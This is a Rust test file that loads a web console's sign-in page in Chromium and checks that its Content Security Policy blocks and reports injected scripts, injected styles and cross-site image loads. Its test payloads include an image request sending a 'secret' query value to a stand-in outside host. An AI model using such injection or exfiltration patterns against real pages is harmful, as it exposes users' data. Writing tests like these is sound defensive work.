//! What a real browser reports about the content policy of a page.

use portcullis_testkit::{Chromium, Page, TestDatabase, TestServer};

/// The reported violations after the first one has arrived.
fn reported(server: &TestServer, page: &mut Page<'_>) -> Vec<String> {
    let mut wait = || drop(page.evaluate("new Promise((done) => setTimeout(done, 100))"));
    for _ in 0..100 {
        if !server.csp_violations().is_empty() {
            // A second report of the same violation would follow at once.
            (0..5).for_each(|_| wait());
            return server.csp_violations();
        }
        wait();
    }
    Vec::new()
}

/// Tries this on the sign-in page, and returns what is reported.
fn tried(act: impl Fn(&mut Page<'_>)) -> Vec<String> {
    let server = TestServer::start(TestDatabase::sqlite());
    let mut chromium = Chromium::start();
    let mut page = chromium.page();
    page.open(&format!("{}/console/sign-in", server.origin()));
    assert_eq!(server.csp_violations(), [""; 0]);
    act(&mut page);
    reported(&server, &mut page)
}

#[test]
fn an_injected_script_does_not_run_and_is_reported_once() {
    let reported = tried(|page| {
        page.evaluate(
            "(() => { const script = document.createElement('script'); \
               script.append('window.ran = true'); document.body.append(script); })()",
        );
        assert_eq!(page.evaluate("window.ran === undefined"), true);
    });
    assert_eq!(reported, ["require-trusted-types-for 1"]);
}

#[test]
fn an_injected_style_and_an_image_of_another_site_are_reported_once_each() {
    let reported = tried(|page| {
        page.evaluate(
            "(() => { const style = document.createElement('style'); \
               style.append('body { display: none }'); document.head.append(style); \
               new Image().src = 'https://elsewhere.example/?secret=1'; })()",
        );
        assert_eq!(page.evaluate("getComputedStyle(document.body).display !== 'none'"), true);
    });
    assert_eq!(reported, ["img-src 1", "style-src-elem 1"]);
}
